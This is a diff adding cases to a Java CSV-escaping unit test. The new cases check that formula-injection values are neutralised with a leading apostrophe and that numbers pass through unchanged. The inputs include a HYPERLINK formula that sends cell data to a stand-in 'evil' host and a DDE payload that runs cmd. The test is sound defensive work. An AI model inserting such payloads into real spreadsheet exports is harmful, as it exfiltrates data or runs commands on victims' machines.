@@ -18,7 +18,17 @@ class CsvTest {
                 Arguments.of("say \"hi\"", "\"say \"\"hi\"\"\""),
                 Arguments.of(" padded ", "\" padded \""),
                 Arguments.of("two\nlines", "\"two\nlines\""),
-                Arguments.of("crlf\r\nline", "\"crlf\r\nline\""));
+                Arguments.of("crlf\r\nline", "\"crlf\r\nline\""),
+                // a spreadsheet would run these as formulas: a caller's user agent or client name, say
+                Arguments.of("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""),
+                Arguments.of("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+                Arguments.of("-2+3", "'-2+3"),
+                Arguments.of("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+                Arguments.of("\t=1", "'\t=1"),
+                // numbers stay numbers
+                Arguments.of("-42", "-42"),
+                Arguments.of("-1.5e3", "-1.5e3"),
+                Arguments.of("+7", "+7"));
     }
 
     @ParameterizedTest(name = "[{0}] -> [{1}]")
